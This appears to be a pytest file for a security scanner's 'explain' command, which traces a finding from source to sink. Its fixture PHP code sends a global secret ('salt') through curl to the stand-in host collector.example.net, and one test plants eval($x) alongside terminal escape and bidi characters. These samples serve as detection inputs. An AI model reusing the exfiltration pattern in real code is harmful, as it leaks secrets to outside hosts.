"""`explain FINDING`: the way of a finding with the code of each step, from a scan or from a report."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from scanner.cli import run

HTTP = """<?php
function http_send($url, $data)
{
    $ch = curl_init($url);
    curl_setopt($ch, CURLOPT_POSTFIELDS, $data);
    return curl_exec($ch);
}
"""
PAGE = """<?php
require "http.php";
function collect()
{
    return array("k" => $GLOBALS['salt']);
}
http_send("https://collector.example.net/", collect());
"""


@pytest.fixture
def release(tmp_path: Path) -> Path:
    folder = tmp_path / "release"
    folder.mkdir()
    (folder / "http.php").write_text(HTTP)
    (folder / "page.php").write_text(PAGE)
    return folder


@pytest.fixture
def report(release: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> Path:
    target = tmp_path / "report.json"
    run(["scan", str(release), "--no-cache", "--jobs", "1", "--quiet", "--format", f"json={target}"])
    capsys.readouterr()
    return target


def explained(capsys: pytest.CaptureFixture[str], *arguments: str) -> str:
    assert run(["explain", *arguments]) == 0
    return capsys.readouterr().out


def landmarks(text: str, *wanted: str) -> bool:
    """Whether pieces of text stand in it, in this order."""
    position = 0
    for piece in wanted:
        position = text.find(piece, position)
        if position < 0:
            return False
        position += len(piece)
    return True


def test_the_way_is_shown_with_code_across_files(release: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = explained(capsys, "page.php:7", str(release), "--no-cache", "--jobs", "1")
    assert landmarks(
        text,
        "secret-to-network  critical",
        "page.php:7",
        "collector.example.net",
        "salt",
        "From source to sink:",
        "1. page.php:5",
        "return array(\"k\" => $GLOBALS['salt']);",
        "page.php:7",
        "returned by collect()",
        "passed to http_send()",
        "http.php:6",
        "return curl_exec($ch);",
        "Why critical:",
        "What to check:",
    )


def test_a_report_says_the_same_as_a_scan(release: Path, report: Path, capsys: pytest.CaptureFixture[str]) -> None:
    findings = json.loads(report.read_text())["findings"]
    identity = next(item["identity"] for item in findings if item["rule"] == "secret-to-network")
    by_scan = explained(capsys, identity[:12], str(release), "--no-cache", "--jobs", "1")
    by_report = explained(capsys, identity[:12], str(release), "--report", str(report))
    assert by_scan == by_report


def test_a_report_alone_shows_the_way_and_its_own_excerpt(report: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = explained(capsys, "page.php:7", "--report", str(report))
    assert landmarks(text, "1. page.php:5", 'http_send("https://collector.example.net/"')
    assert "> " not in text


def test_code_can_be_left_out(release: Path, report: Path, capsys: pytest.CaptureFixture[str]) -> None:
    text = explained(capsys, "page.php:7", str(release), "--report", str(report), "--no-excerpts")
    assert "1. page.php:5" in text
    assert "curl_exec($ch)" not in text


def test_every_finding_can_be_explained(release: Path, report: Path, capsys: pytest.CaptureFixture[str]) -> None:
    findings = json.loads(report.read_text())["findings"]
    assert len(findings) > 2
    for item in findings:
        text = explained(capsys, item["identity"], str(release), "--report", str(report))
        assert f"Why {item['severity']}:" in text
        assert f"{item['path']}:{item['line']}" in text


@pytest.mark.parametrize("topic", ["0000000000", "page.php:999", "nothing", ""])
def test_what_fits_nothing_is_one_line(report: Path, topic: str, capsys: pytest.CaptureFixture[str]) -> None:
    assert run(["explain", topic, "--report", str(report)]) == 2
    assert capsys.readouterr().err.count("\n") == 1


def test_an_identity_that_fits_several_is_refused(report: Path, capsys: pytest.CaptureFixture[str]) -> None:
    document = json.loads(report.read_text())
    for number, item in enumerate(document["findings"]):
        item["identity"] = f"abcd{number:028x}"
    report.write_text(json.dumps(document))
    assert run(["explain", "abcd", "--report", str(report)]) == 2
    assert "identities" in capsys.readouterr().err


@pytest.mark.parametrize("content", ["", "{}", "[1]", '{"findings": [{}]}'])
def test_a_file_that_is_no_report_is_one_line(tmp_path: Path, content: str, capsys: pytest.CaptureFixture[str]) -> None:
    target = tmp_path / "other.json"
    target.write_text(content)
    assert run(["explain", "abcd", "--report", str(target)]) == 2
    assert capsys.readouterr().err.count("\n") == 1


def test_scanned_text_does_not_reach_the_terminal_raw(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "a.php").write_text("<?php\neval($x); // \x1b[31mred \u202e\n")
    text = explained(capsys, "a.php:2", str(tmp_path), "--no-cache", "--jobs", "1")
    assert "\x1b" not in text
    assert "\u202e" not in text
